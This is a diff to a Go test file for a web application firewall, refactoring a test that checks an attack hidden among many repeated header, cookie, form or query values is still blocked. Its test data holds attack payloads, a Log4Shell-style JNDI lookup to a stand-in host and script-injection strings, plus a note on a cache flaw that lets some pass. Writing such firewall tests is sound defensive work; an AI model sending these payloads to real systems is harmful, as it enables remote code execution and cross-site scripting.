@@ -9,16 +9,10 @@ import (
 	"gatehouse/waf/variables"
 )
 
-// TestRepeatedNamesHideNothing sends an attack as one of many values of one
-// name. Coraza 3.8.1 alone lets some of these pass, by chance: its cache of
-// transformed values takes one for another.
-func TestRepeatedNamesHideNothing(t *testing.T) {
-	oneGoroutine(t)
-	j, err := newJudge(testPolicy(1))
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer j.release()
+// repeatedNames are requests with an attack as one of many values of one name,
+// among other names: without them each value is in the same place for every
+// rule.
+func repeatedNames() []crsTest {
 	headers := []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
 		{Name: "A", Value: "1"}, {Name: "B", Value: "2"}, {Name: "C", Value: "3"}, {Name: "D", Value: "4"}, {Name: "E", Value: "5"}}
 	form := func(data string) *variables.Request {
@@ -33,19 +27,30 @@ func TestRepeatedNamesHideNothing(t *testing.T) {
 		}
 		return append(h, variables.Pair{Name: name, Value: evil})
 	}
-	xss := "<script>alert(1)</script>"
-	for _, tc := range []struct {
-		name string
-		req  *variables.Request
-	}{
-		{"a header", request("GET", "/", "HTTP/1.1", repeated("X-Api-Version", "safe", "${jndi:ldap://evil.example/a}"), "")},
-		{"a cookie", request("GET", "/", "HTTP/1.1", append(headers[:len(headers):len(headers)],
-			variables.Pair{Name: "Cookie", Value: strings.Repeat("c=safe; ", 20) + "c=" + xss}), "")},
-		{"cookies in several headers", request("GET", "/", "HTTP/1.1", repeated("Cookie", "c=safe", "c="+xss), "")},
-		{"a form field", form(strings.Repeat("a=safe&", 20) + "a=%3Cscript%3Ealert(1)%3C/script%3E")},
-		{"an argument of the query", request("GET", "/?"+strings.Repeat("a=safe&", 20)+"a=%3Cscript%3Ealert(1)%3C/script%3E", "HTTP/1.1", headers, "")},
-		{"arguments without a name", request("GET", "/?"+strings.Repeat("=safe&", 20)+"=%3Cscript%3Ealert(1)%3C/script%3E", "HTTP/1.1", headers, "")},
-	} {
+	const others, xss, encoded = "k=1&l=2&m=3&n=4&o=5&p=6&q=7&r=8&s=9&t=10&", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E"
+	of := func(name string, r *variables.Request) crsTest { return crsTest{name: name, req: r, body: r.Body.Raw} }
+	return []crsTest{
+		of("a header", request("GET", "/", "HTTP/1.1", repeated("X-Api-Version", "safe", "${jndi:ldap://evil.example/a}"), "")),
+		of("a cookie", request("GET", "/", "HTTP/1.1", append(headers[:len(headers):len(headers)],
+			variables.Pair{Name: "Cookie", Value: strings.ReplaceAll(others, "&", "; ") + strings.Repeat("c=safe; ", 20) + "c=" + xss}), "")),
+		of("cookies in several headers", request("GET", "/", "HTTP/1.1", repeated("Cookie", "c=safe", "c="+xss), "")),
+		of("a form field", form(others+strings.Repeat("a=safe&", 20)+"a="+encoded)),
+		of("an argument of the query", request("GET", "/?"+others+strings.Repeat("a=safe&", 20)+"a="+encoded, "HTTP/1.1", headers, "")),
+		of("arguments without a name", request("GET", "/?"+others+strings.Repeat("=safe&", 20)+"="+encoded, "HTTP/1.1", headers, "")),
+	}
+}
+
+// TestRepeatedNamesHideNothing judges them many times. Coraza 3.8.1 alone lets
+// some of these pass, by chance: its cache of transformed values takes one for
+// another.
+func TestRepeatedNamesHideNothing(t *testing.T) {
+	oneGoroutine(t)
+	j, err := newJudge(testPolicy(1))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer j.release()
+	for _, tc := range repeatedNames() {
 		for _, useIndex := range []bool{false, true} {
 			var e index.Evaluation
 			blocked := 0
